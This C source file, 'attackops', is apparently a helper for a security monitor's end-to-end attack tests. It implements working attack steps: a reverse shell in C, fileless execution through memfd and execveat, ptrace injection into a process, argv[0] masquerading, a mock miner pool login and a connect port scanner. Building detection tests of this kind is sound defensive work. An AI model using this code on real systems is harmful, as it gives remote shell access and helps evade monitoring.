// SPDX-License-Identifier: Apache-2.0
/*
 * The attack steps of the end-to-end scenarios (test/attacks) that busybox
 * cannot perform and secops does not: copied into the scenario containers.
 * Each prints what it did to stdout so a failed scenario can be read.
 *
 *   attackops connect HOST PORT [MSG]      TCP connect (IPv4 or IPv6 literal),
 *                                          send MSG and a newline, print the reply
 *   attackops connect-unix PATH [MSG]      the same over a Unix stream socket
 *                                          (curl --unix-socket /var/run/docker.sock)
 *   attackops revshell HOST PORT PROG...   connect, dup2 the socket onto 0, 1
 *                                          and 2, exec PROG: a reverse shell
 *                                          written in C instead of a shell one-liner
 *   attackops openat DIR REL r|a|w [DATA]  openat(open(DIR), REL): r reads, a opens
 *                                          O_WRONLY|O_CREAT|O_APPEND, w adds O_TRUNC
 *                                          instead of O_APPEND; DATA is written
 *   attackops exec-as ARGV0 PATH [ARG...]  execv(PATH) with argv[0] = ARGV0
 *   attackops exec-memfd FILE ARGV0 [ARG...]
 *                                          copy FILE into a memfd, execveat it
 *   attackops ptrace-seize                 fork a child, PTRACE_SEIZE it, stop it
 *                                          with PTRACE_INTERRUPT, PTRACE_POKEDATA
 *                                          one of its words, detach, kill it
 *   attackops bpf-map                      bpf(BPF_MAP_CREATE) only: no program
 *
 * Installed under other names it plays the programs the scenarios need:
 *   NAME -o stratum+tcp://HOST:PORT ...    a miner: resolves HOST (libc, so DNS),
 *                                          connects, sends a stratum login
 *                                          (whenever an -o or --url option is given)
 *   nmap -p PORT[,PORT...] HOST            a port scanner: TCP connect to each port
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <linux/bpf.h>
#include <netdb.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef MFD_CLOEXEC
#define MFD_CLOEXEC 1
#endif
#ifndef PTRACE_SEIZE
#define PTRACE_SEIZE 0x4206
#endif
#ifndef PTRACE_INTERRUPT
#define PTRACE_INTERRUPT 0x4207
#endif

static void die(const char *what)
{
	fprintf(stderr, "attackops: %s: %s\n", what, strerror(errno));
	exit(1);
}

static int tcp_connect(const char *host, const char *port)
{
	struct sockaddr_storage ss = { 0 };
	socklen_t len;
	int fd;

	if (strchr(host, ':')) {
		struct sockaddr_in6 *s = (struct sockaddr_in6 *)&ss;

		s->sin6_family = AF_INET6;
		s->sin6_port = htons(atoi(port));
		if (inet_pton(AF_INET6, host, &s->sin6_addr) != 1)
			die("bad IPv6 address");
		len = sizeof(*s);
	} else {
		struct sockaddr_in *s = (struct sockaddr_in *)&ss;

		s->sin_family = AF_INET;
		s->sin_port = htons(atoi(port));
		if (inet_pton(AF_INET, host, &s->sin_addr) != 1)
			die("bad IPv4 address");
		len = sizeof(*s);
	}
	fd = socket(ss.ss_family, SOCK_STREAM, 0);
	if (fd < 0)
		die("socket");
	if (connect(fd, (struct sockaddr *)&ss, len))
		die("connect");
	return fd;
}

static int unix_connect(const char *path)
{
	struct sockaddr_un s = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (fd < 0)
		die("socket");
	strncpy(s.sun_path, path, sizeof(s.sun_path) - 1);
	if (connect(fd, (struct sockaddr *)&s, sizeof(s)))
		die("connect");
	return fd;
}

/* Send MSG (if any) and print what comes back until the peer closes. */
static int converse(int fd, const char *msg)
{
	char buf[4096];
	ssize_t n;

	if (msg && (write(fd, msg, strlen(msg)) < 0 || write(fd, "\n", 1) < 0))
		die("write");
	shutdown(fd, SHUT_WR);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, n, stdout);
	printf("\n%d connected\n", getpid());
	return 0;
}

static int do_openat(const char *dir, const char *rel, const char *how, const char *data)
{
	char buf[256];
	int dfd = open(dir, O_RDONLY | O_DIRECTORY);
	int flags = O_RDONLY;
	int fd;
	ssize_t n;

	if (dfd < 0)
		die(dir);
	if (how[0] == 'a')
		flags = O_WRONLY | O_CREAT | O_APPEND;
	else if (how[0] == 'w')
		flags = O_WRONLY | O_CREAT | O_TRUNC;
	fd = openat(dfd, rel, flags, 0644);
	if (fd < 0)
		die(rel);
	if (flags == O_RDONLY) {
		n = read(fd, buf, sizeof(buf));
		printf("%d read %zd bytes\n", getpid(), n);
	} else {
		if (data && write(fd, data, strlen(data)) < 0)
			die("write");
		printf("%d opened for writing\n", getpid());
	}
	return 0;
}

static int do_exec_memfd(const char *file, char **argv)
{
	static char buf[1 << 16];
	char *envp[] = { "PATH=/usr/local/bin:/usr/bin:/bin", NULL };
	int src = open(file, O_RDONLY);
	int mfd = syscall(SYS_memfd_create, "payload", MFD_CLOEXEC);
	ssize_t n;

	if (src < 0)
		die(file);
	if (mfd < 0)
		die("memfd_create");
	while ((n = read(src, buf, sizeof(buf))) > 0)
		if (write(mfd, buf, n) != n)
			die("write");
	close(src);
	syscall(SYS_execveat, mfd, "", argv, envp, AT_EMPTY_PATH);
	die("execveat");
	return 1;
}

static volatile long victim_word = 0x6b657374;

static int do_ptrace_seize(void)
{
	int status;
	long s, p;
	pid_t child = fork();

	if (child < 0)
		die("fork");
	if (child == 0) {
		for (;;)
			pause();
	}
	s = syscall(SYS_ptrace, PTRACE_SEIZE, child, 0, 0);
	if (s)
		die("PTRACE_SEIZE");
	if (syscall(SYS_ptrace, PTRACE_INTERRUPT, child, 0, 0))
		die("PTRACE_INTERRUPT");
	waitpid(child, &status, 0);
	p = syscall(SYS_ptrace, PTRACE_POKEDATA, child, &victim_word, 0x706f6b65);
	printf("%d seized %d poke=%ld\n", getpid(), child, p);
	syscall(SYS_ptrace, PTRACE_DETACH, child, 0, 0);
	kill(child, SIGKILL);
	waitpid(child, &status, 0);
	return 0;
}

static int do_bpf_map(void)
{
	union bpf_attr map;
	long m;

	memset(&map, 0, sizeof(map));
	map.map_type = BPF_MAP_TYPE_ARRAY;
	map.key_size = 4;
	map.value_size = 4;
	map.max_entries = 1;
	m = syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof(map));
	printf("%d map %ld\n", getpid(), m < 0 ? -(long)errno : m);
	return 0;
}

static int resolve_connect(const char *host, const char *port)
{
	struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *ai;
	int fd, e = getaddrinfo(host, port, &hints, &ai);

	if (e) {
		fprintf(stderr, "attackops: %s: %s\n", host, gai_strerror(e));
		exit(1);
	}
	fd = socket(ai->ai_family, SOCK_STREAM, 0);
	if (fd < 0)
		die("socket");
	if (connect(fd, ai->ai_addr, ai->ai_addrlen))
		die("connect");
	freeaddrinfo(ai);
	return fd;
}

/* -o stratum+tcp://HOST:PORT: log in to the pool as a miner would. */
static int mine(int argc, char **argv)
{
	char host[256], *port, *url = NULL, *p;

	for (int i = 1; i + 1 < argc; i++)
		if (!strcmp(argv[i], "-o") || !strcmp(argv[i], "--url"))
			url = argv[i + 1];
	p = strstr(url, "://");
	snprintf(host, sizeof(host), "%s", p ? p + 3 : url);
	port = strrchr(host, ':');
	if (!port)
		die("pool URL without a port");
	*port++ = 0;
	return converse(resolve_connect(host, port),
			"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"x\",\"agent\":\"kestrel\"}}");
}

/* nmap -p 22,80 HOST: connect to each port, say which answered. */
static int scan(int argc, char **argv)
{
	char ports[256], *tok, *save;
	const char *host = argv[argc - 1];

	snprintf(ports, sizeof(ports), "%s", "80");
	for (int i = 1; i + 1 < argc; i++)
		if (!strcmp(argv[i], "-p"))
			snprintf(ports, sizeof(ports), "%s", argv[i + 1]);
	for (tok = strtok_r(ports, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
		struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *ai;
		int fd, ok = 0;

		if (getaddrinfo(host, tok, &hints, &ai))
			continue;
		fd = socket(ai->ai_family, SOCK_STREAM, 0);
		ok = fd >= 0 && !connect(fd, ai->ai_addr, ai->ai_addrlen);
		printf("%s/tcp %s\n", tok, ok ? "open" : "closed");
		if (fd >= 0)
			close(fd);
		freeaddrinfo(ai);
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *op = argc > 1 ? argv[1] : "";

	if (!strcmp(basename(argv[0]), "nmap"))
		return scan(argc, argv);
	for (int i = 1; i + 1 < argc; i++)
		if (!strcmp(argv[i], "-o") || !strcmp(argv[i], "--url"))
			return mine(argc, argv);

	if (!strcmp(op, "connect") && argc > 3)
		return converse(tcp_connect(argv[2], argv[3]), argc > 4 ? argv[4] : NULL);
	if (!strcmp(op, "connect-unix") && argc > 2)
		return converse(unix_connect(argv[2]), argc > 3 ? argv[3] : NULL);
	if (!strcmp(op, "revshell") && argc > 4) {
		int fd = tcp_connect(argv[2], argv[3]);

		for (int i = 0; i < 3; i++)
			if (dup2(fd, i) < 0)
				die("dup2");
		execv(argv[4], argv + 4);
		die("exec");
	}
	if (!strcmp(op, "openat") && argc > 4)
		return do_openat(argv[2], argv[3], argv[4], argc > 5 ? argv[5] : NULL);
	if (!strcmp(op, "exec-as") && argc > 3) {
		char *path = argv[3];

		argv[3] = argv[2];
		execv(path, argv + 3);
		die("exec");
	}
	if (!strcmp(op, "exec-memfd") && argc > 3)
		return do_exec_memfd(argv[2], argv + 3);
	if (!strcmp(op, "ptrace-seize"))
		return do_ptrace_seize();
	if (!strcmp(op, "bpf-map"))
		return do_bpf_map();
	fprintf(stderr, "usage: attackops connect|connect-unix|revshell|openat|exec-as|exec-memfd|ptrace-seize|bpf-map ... (see the source)\n");
	return 2;
}
